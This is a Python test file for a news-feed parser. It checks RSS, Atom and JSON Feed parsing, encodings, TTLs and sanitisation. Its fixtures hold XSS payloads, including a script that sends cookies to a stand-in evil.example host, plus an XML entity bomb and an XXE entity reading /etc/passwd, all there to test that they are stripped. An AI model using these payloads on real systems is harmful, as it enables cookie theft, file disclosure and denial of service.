"""Feeds: every shared feed file through the real fetcher and probe, the sanitize payloads,
legacy encodings, JSON Feed, and the item fields."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import feedparser
import pytest

from knowledge.errors import NotAFeedError, SourceError
from knowledge.ingest import Draft
from knowledge.sources.feeds import FeedItem, parse_feed
from knowledge.sources.fetch import Fetcher
from knowledge.sources.probe import probe
from tests.conftest import SHARED_DATA
from tests.support.feedserver import FeedServer, Reply

FEEDS = SHARED_DATA / "feeds"
NETNEWSWIRE = SHARED_DATA / "feeds_netnewswire"
needs_data = pytest.mark.skipif(
    not (FEEDS / "index.json").exists() or not (NETNEWSWIRE / "manifest.jsonl").exists(),
    reason="../shared/data/feeds is not here",
)
MakeFetcher = Callable[..., Fetcher]

# Anything a script payload could leave behind in text that reaches a Telegram message.
UNSAFE = re.compile(
    r"<\s*/?\s*[a-z!]|javascript:|vbscript:|location\.href|\bon[a-z]+\s*=|alert\(|expression\(",
    re.IGNORECASE,
)


def _feed_files() -> list[tuple[str, Path]]:
    """(URL path on the test server, file) for every feed file in both folders."""
    if not (FEEDS / "index.json").exists() or not (NETNEWSWIRE / "manifest.jsonl").exists():
        return []
    rows = json.loads((FEEDS / "index.json").read_text(encoding="utf-8"))
    files = [(f"/feeds/{row['file']}", FEEDS / row["file"]) for row in rows]
    for line in (NETNEWSWIRE / "manifest.jsonl").read_text(encoding="utf-8").splitlines():
        if line.strip():
            name = json.loads(line)["file"]
            files.append((f"/nnw/{name}", NETNEWSWIRE / name))
    return files


def _assert_safe(item: FeedItem) -> None:
    for text in (item.title, item.text):
        found = UNSAFE.search(text)
        assert found is None, f"unsafe text survived: {text[max(0, found.start() - 40) :][:120]!r}"
    assert item.url is None or item.url.startswith(("http://", "https://"))


def _has_something(entry: dict) -> bool:
    values = [entry.get("title"), entry.get("link"), entry.get("summary")]
    values += [c.get("value") for c in entry.get("content", [])]
    hidden = re.compile(r"<(svg|script|style)\b.*?</\1>", re.IGNORECASE | re.DOTALL)
    values = [hidden.sub("", str(v or "")) for v in values]
    return any(
        re.search(r"\w", html.unescape(re.sub(r"<[^>]*>", "", str(v or "")))) for v in values
    )


@needs_data
async def test_every_shared_feed_file_is_parsed_or_refused_with_a_reason(
    server: FeedServer, make_fetcher: MakeFetcher
) -> None:
    server.serve_dir("/feeds/", FEEDS)
    server.serve_dir("/nnw/", NETNEWSWIRE)
    files = _feed_files()
    assert len(files) == 242
    brought: dict[str, int] = {}
    refused: dict[str, str] = {}
    kinds: dict[str, str] = {}
    empty_entries: dict[str, int] = {}
    async with make_fetcher() as fetcher:
        for path, _file in files:
            try:
                found = await probe(fetcher, server.url(path), full_text=False)
            except SourceError as exc:
                assert str(exc).strip(), f"{path}: refused without a reason"
                refused[path] = str(exc)
                continue
            for item in found.items:
                _assert_safe(item)
            brought[path] = len(found.items)
            kinds[path] = found.kind
            if found.feed is not None and found.feed.skipped:
                empty_entries[path] = found.feed.skipped
    # The aim: every file from which feedparser itself reads an entry brings items, except
    # entries that carry no title, text or link at all (feedparser's metadata-only tests).
    for path, file in files:
        entries = feedparser.parse(file.read_bytes()).entries
        usable = [e for e in entries if _has_something(e)]
        if usable:
            assert brought.get(path, 0) > 0, f"{path}: feedparser reads entries, we brought none"
    # JSON Feeds (feedparser 6.0 reads none of them) bring items too.
    for path in (
        "/nnw/files/DaringFireball.json",
        "/nnw/files/inessential.json",
        "/nnw/files/ScriptingNews.json",
    ):
        assert brought[path] > 0
    for path in [p for p, _ in files if p.startswith("/feeds/feed-rs/jsonfeed/")]:
        if not path.endswith(".expected.serde.json"):
            assert brought.get(path, 0) > 0, path
    assert sum(brought.values()) > 1000
    assert len(brought) >= 150
    # The two HTML home pages are not feeds: their advertised feeds are not on the test server
    # (one is on another host, which the test resolver does not know), so they are read as
    # article pages or refused, never taken for feeds.
    for path in ("/nnw/files/DaringFireball.html", "/nnw/files/sixcolors.html"):
        assert kinds.get(path, "refused") in ("page", "refused")
    assert len(refused) <= 4, refused


@needs_data
def test_sanitize_payloads_never_survive() -> None:
    folder = FEEDS / "feedparser" / "wellformed" / "sanitize"
    files = sorted(folder.glob("*.xml"))
    assert files
    for file in files:
        parsed = parse_feed(file.read_bytes(), "http://127.0.0.1/feed.xml")
        assert UNSAFE.search(parsed.title) is None
        for item in parsed.items:
            _assert_safe(item)
            assert "ragingplatypus.com/';" not in item.text


HOSTILE = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title><![CDATA[News<script>alert('t')</script>]]></title>
<item>
 <title><![CDATA[Talks resume <script>alert("x")</script><img src=x onerror=alert(1)>]]></title>
 <link>javascript:alert(document.cookie)</link>
 <guid isPermaLink="false">hostile-1</guid>
 <description><![CDATA[<p>Envoys met in Manila.</p>
 <style>body{background:url(javascript:alert(1))}</style>
 <script type="text/javascript">document.location.href='http://evil.example/'
 +document.cookie</script>
 <iframe src="javascript:alert(2)">inside iframe</iframe><object data="x.swf">obj</object>
 <a href="javascript:alert(3)" onclick="alert(4)">a link</a>
 <svg><script>alert(5)</script></svg><noscript>no script</noscript>
 &lt;script&gt;alert(6)&lt;/script&gt; Both sides agreed to meet again.</p>]]></description>
</item>
<item>
 <title>Escaped &amp;lt;script&amp;gt;alert(7)&amp;lt;/script&amp;gt; title</title>
 <link>https://news.example.com/a?id=1</link>
 <description>&amp;lt;b&amp;gt;double&amp;lt;/b&amp;gt; escaped &amp;amp; kept</description>
</item>
</channel></rss>"""


def test_hostile_markup_is_stripped_to_plain_text() -> None:
    parsed = parse_feed(HOSTILE, "https://news.example.com/feed.xml")
    first, second = parsed.items
    assert UNSAFE.search(parsed.title) is None
    for item in parsed.items:
        _assert_safe(item)
        assert "alert" not in item.text and "alert" not in item.title
    assert first.title == "Talks resume"
    assert first.url is None  # a javascript: link is not a URL we keep
    assert first.guid == "hostile-1"
    assert "Envoys met in Manila." in first.text
    assert "Both sides agreed to meet again." in first.text
    assert "a link" in first.text
    assert "inside iframe" not in first.text and "evil.example" not in first.text
    assert second.url == "https://news.example.com/a?id=1"
    assert second.title == "Escaped title"
    assert "double escaped & kept" in second.text


@pytest.mark.parametrize(
    ("encoding", "declared", "http_charset"),
    [
        ("windows-1251", True, None),
        ("windows-1251", False, "windows-1251"),
        ("koi8-r", True, None),
        ("iso-8859-1", True, None),
        ("iso-8859-1", False, "ISO-8859-1"),
        ("shift_jis", True, None),
    ],
)
async def test_a_feed_in_a_legacy_encoding_is_decoded(
    encoding: str,
    declared: bool,
    http_charset: str | None,
    server: FeedServer,
    make_fetcher: MakeFetcher,
) -> None:
    if encoding in ("windows-1251", "koi8-r"):
        title, text = "Новости Азии", "Переговоры в Маниле продолжаются. Стороны встретятся снова."
    elif encoding == "shift_jis":
        title, text = "アジアのニュース", "マニラでの協議が続いている。"
    else:
        title, text = "Café façade à Nouméa", "Les négociations se poursuivent à Nouméa, été."
    declaration = f' encoding="{encoding}"' if declared else ""
    body = (
        f'<?xml version="1.0"{declaration}?>\n<rss version="2.0"><channel><title>{title}</title>'
        f"<item><title>{title}</title><link>http://example.com/1</link>"
        f"<description>{text}</description></item></channel></rss>"
    ).encode(encoding)
    content_type = "application/rss+xml" + (f"; charset={http_charset}" if http_charset else "")
    url = server.route("/legacy.xml", Reply(body=body, headers={"Content-Type": content_type}))
    async with make_fetcher() as fetcher:
        found = await probe(fetcher, url)
    assert found.title == title
    assert found.items[0].title == title
    assert found.items[0].text == text


@needs_data
def test_gb2312_feed_from_the_wild() -> None:
    parsed = parse_feed((NETNEWSWIRE / "files" / "kc0011.rss").read_bytes(), "http://x.test/")
    assert parsed.items and "投资" in parsed.title
    assert all(re.search(r"[\u4e00-\u9fff]", item.title) for item in parsed.items)


@needs_data
def test_livemint_items_take_their_url_from_link_not_the_numeric_guid() -> None:
    parsed = parse_feed((NETNEWSWIRE / "files" / "livemint.xml").read_bytes(), "https://x.test/")
    assert parsed.kind == "rss" and len(parsed.items) == 25
    first = parsed.items[0]
    assert first.guid == "1559104147038"
    assert first.url is not None and first.url.startswith("https://www.livemint.com/")
    assert first.title == "PM Modi-Xi Jinping informal summit in Varanasi this October: Report"
    assert first.published == datetime(2019, 5, 29, 10, 16, tzinfo=UTC)
    assert all(item.published is not None for item in parsed.items)


@needs_data
@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("DaringFireball.rss", "atom"),  # Atom behind an .rss name
        ("allthis.atom", "rss"),  # RSS behind an .atom name
        ("bio.rdf", "rdf"),
        ("DaringFireball.json", "json"),
        ("ScriptingNews.json", "json"),  # RSS-in-JSON
        ("livemint.xml", "rss"),
    ],
)
def test_the_kind_comes_from_the_content_not_the_name(name: str, kind: str) -> None:
    parsed = parse_feed((NETNEWSWIRE / "files" / name).read_bytes(), f"http://x.test/{name}")
    assert parsed.kind == kind
    assert parsed.items


@needs_data
def test_the_same_site_in_three_formats_gives_the_same_items() -> None:
    titles = {}
    for name in ("DaringFireball.atom", "DaringFireball.json"):
        parsed = parse_feed((NETNEWSWIRE / "files" / name).read_bytes(), "http://x.test/")
        titles[name] = [item.title for item in parsed.items]
    assert titles["DaringFireball.atom"] == titles["DaringFireball.json"]
    allthis = [
        [i.title for i in parse_feed((NETNEWSWIRE / "files" / n).read_bytes(), "http://x/").items]
        for n in ("allthis.atom", "allthis.json")
    ]
    assert allthis[0] == allthis[1]


def test_json_feed_fields() -> None:
    body = json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "Pacific Wire",
            "home_page_url": "https://wire.example.com/",
            "items": [
                {
                    "id": "a1",
                    "url": "/2026/11/30/talks",
                    "title": "Talks in <em>Suva</em>",
                    "content_html": "<p>Leaders met in Suva.</p><script>alert(1)</script>",
                    "date_published": "2026-11-30T05:00:00+11:00",
                },
                {"id": 2, "content_text": "A post with no title, only text."},
                "not an object",
                {"id": "empty"},
            ],
        }
    ).encode()
    parsed = parse_feed(body, "https://wire.example.com/feed.json", "application/feed+json")
    assert parsed.kind == "json" and parsed.title == "Pacific Wire"
    assert parsed.link == "https://wire.example.com/"
    first, second = parsed.items
    assert first.url == "https://wire.example.com/2026/11/30/talks"
    assert first.title == "Talks in Suva" and first.text == "Leaders met in Suva."
    assert first.published == datetime(2026, 11, 29, 18, 0, tzinfo=UTC)
    assert second.guid == "2" and second.title == "A post with no title, only text."
    assert parsed.skipped == 2


def test_teasers_are_marked_summary_only() -> None:
    long_text = " ".join(["word"] * 300)
    body = f"""<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
    <channel><title>T</title><ttl>45</ttl>
    <item><title>Short</title><link>http://x.test/1</link>
      <description>Only the first lines of the story…</description></item>
    <item><title>Full</title><link>http://x.test/2</link><description>Teaser.</description>
      <content:encoded><![CDATA[<p>{long_text}</p>]]></content:encoded></item>
    <item><title>Read more</title><link>http://x.test/3</link>
      <description><![CDATA[<p>{long_text}</p><p>Continue reading</p>]]></description></item>
    <item><title>Nothing but a title</title><link>http://x.test/4</link></item>
    </channel></rss>""".encode()
    parsed = parse_feed(body, "http://x.test/feed")
    flags = {item.title: item.summary_only for item in parsed.items}
    assert flags == {"Short": True, "Full": False, "Read more": True, "Nothing but a title": True}
    assert parsed.ttl_minutes == 45


def test_to_draft_carries_the_item() -> None:
    item = FeedItem(
        guid="g1",
        url="https://x.test/1",
        title="Title",
        text="Text of the story.",
        summary_only=False,
        published=datetime(2026, 11, 30, tzinfo=UTC),
    )
    draft = item.to_draft("Pacific Wire", 7)
    assert isinstance(draft, Draft)
    assert (draft.url, draft.title, draft.text, draft.source, draft.published) == (
        "https://x.test/1",
        "Title",
        "Text of the story.",
        "Pacific Wire",
        datetime(2026, 11, 30, tzinfo=UTC),
    )
    assert draft.source_id == 7 and draft.guid == "g1"


@pytest.mark.parametrize(
    ("content", "content_type", "reason"),
    [
        (b"", None, "empty"),
        (b"   \n\t ", None, "empty"),
        (
            b"<!DOCTYPE html><html><head><title>Hi</title></head><body>Hi</body></html>",
            "text/html",
            "HTML page",
        ),
        (b"\x00\x01\x02garbage\xff\xfe", None, "not"),
        (
            b"<!DOCTYPE html><html><body><item><title>Thing</title></item>"
            b"<entry><title>E</title></entry></body></html>",
            "text/html",
            "HTML page",
        ),
        (b"just some words, no markup", "text/plain", "not"),
        (b'{"hello": "world"}', "application/json", "not a JSON Feed"),
        (b"{broken json", "application/json", "not a readable JSON feed"),
        (b"<rss><channel><item><title>unterminated", None, "not"),
    ],
)
def test_what_is_not_a_feed_is_refused_with_a_reason(
    content: bytes, content_type: str | None, reason: str
) -> None:
    try:
        parsed = parse_feed(content, "http://x.test/feed", content_type)
    except NotAFeedError as exc:
        assert reason in str(exc)
    else:  # a broken feed feedparser still reads is fine, as long as it is well-formed output
        assert reason == "not" and all(isinstance(i, FeedItem) for i in parsed.items)


def test_future_dates_are_dropped_and_missing_titles_filled() -> None:
    body = b"""<rss version="2.0"><channel><title>T</title>
    <item><link>http://x.test/1</link><description>A first line that becomes the title.
    And more.</description><pubDate>Tue, 01 Jan 2999 00:00:00 GMT</pubDate></item>
    </channel></rss>"""
    (item,) = parse_feed(body, "http://x.test/feed").items
    assert item.published is None
    assert item.title.startswith("A first line that becomes the title.")


def test_entity_expansion_and_external_entities_are_not_followed() -> None:
    entities = "".join(
        f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i > 1 else "lol") * 10}">' for i in range(1, 10)
    )
    bomb = (
        f'<?xml version="1.0"?><!DOCTYPE r [{entities}]><rss version="2.0"><channel>'
        "<title>&lol9;</title><item><title>Bomb</title><description>&lol9;</description>"
        "</item></channel></rss>"
    ).encode()
    parsed = parse_feed(bomb, "http://x.test/feed")
    assert all(len(item.text) < 1000 for item in parsed.items)
    xxe = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title>'
        b"<description>Body</description></item></channel></rss>"
    )
    (item,) = parse_feed(xxe, "http://x.test/feed").items
    assert "root:" not in item.title and "root:" not in item.text


def test_deeply_nested_or_oddly_typed_input_is_read_or_refused() -> None:
    with pytest.raises(NotAFeedError, match="nested too deeply"):
        parse_feed(b"[" * 100_000, "http://x.test/feed.json")
    deep = "<div>" * 20_000 + "Deep text survives." + "</div>" * 20_000
    rss = (
        '<rss version="2.0"><channel><title>T</title><item><title>Deep</title>'
        f"<link>http://x.test/1</link><description><![CDATA[{deep}]]></description></item>"
        "</channel></rss>"
    ).encode()
    (item,) = parse_feed(rss, "http://x.test/feed").items
    assert item.text == "Deep text survives."
    odd = json.dumps(
        {
            "version": "https://jsonfeed.org/version/1",
            "title": ["not", "a", "string"],
            "items": [
                {"id": {"nested": 1}, "title": 42, "url": ["x"], "content_html": {"a": 1}},
                {"id": "fine", "title": "Fine", "content_text": "Still read."},
                {"title": "Bad date", "content_text": "Kept.", "date_published": 1234},
            ],
        }
    ).encode()
    parsed = parse_feed(odd, "http://x.test/feed.json")
    titles = [item.title for item in parsed.items]
    assert "Fine" in titles and "Bad date" in titles
    assert all(_assert_safe(item) is None for item in parsed.items)


@pytest.mark.parametrize(
    ("channel", "minutes"),
    [
        ("<ttl>30</ttl>", 30),
        ("<ttl>0</ttl>", None),
        ("<ttl>soon</ttl>", None),
        (
            "<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>2</sy:updateFrequency>",
            30,
        ),
        ("<sy:updatePeriod>daily</sy:updatePeriod>", 1440),
        ("<sy:updatePeriod>sometimes</sy:updatePeriod>", None),
        ("<ttl>15</ttl><sy:updatePeriod>daily</sy:updatePeriod>", 15),
        ("", None),
    ],
)
def test_ttl_from_ttl_or_the_syndication_module(channel: str, minutes: int | None) -> None:
    body = (
        '<rss version="2.0" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">'
        f"<channel><title>T</title>{channel}<item><title>x</title></item></channel></rss>"
    ).encode()
    assert parse_feed(body, "http://x.test/feed").ttl_minutes == minutes


def _declared_headers(file: Path) -> dict[str, str]:
    """The `Header:` lines of a feedparser test file's comment (how its suite serves it)."""
    head = file.read_bytes()[:1000].decode("ascii", "replace")
    found = re.findall(r"^Header:\s*([\w-]+):\s*(.*?)\s*$", head, re.MULTILINE)
    return dict(found)


@needs_data
async def test_feedparser_http_files_served_with_their_declared_headers(
    server: FeedServer, make_fetcher: MakeFetcher
) -> None:
    files = [f for f in sorted((FEEDS / "feedparser").rglob("*.xml")) if _declared_headers(f)]
    assert len(files) == 10
    titles = {}
    async with make_fetcher() as fetcher:
        for index, file in enumerate(files):
            url = server.route(
                f"/http/{index}.xml",
                Reply(body=file.read_bytes(), headers=_declared_headers(file)),
            )
            try:
                found = await probe(fetcher, url)
            except SourceError as exc:
                assert str(exc)
                continue
            titles[file.name] = found.title
    # A bare text/xml says us-ascii to RFC 3023 (feedparser then flags the UTF-8 feed); the
    # XML declaration is what decodes it right, served either way.
    assert titles["bozo_http_i18n.xml"] == "Iñtërnâtiônàlizætiøn"
    assert titles["http_i18n.xml"] == "Iñtërnâtiônàlizætiøn"
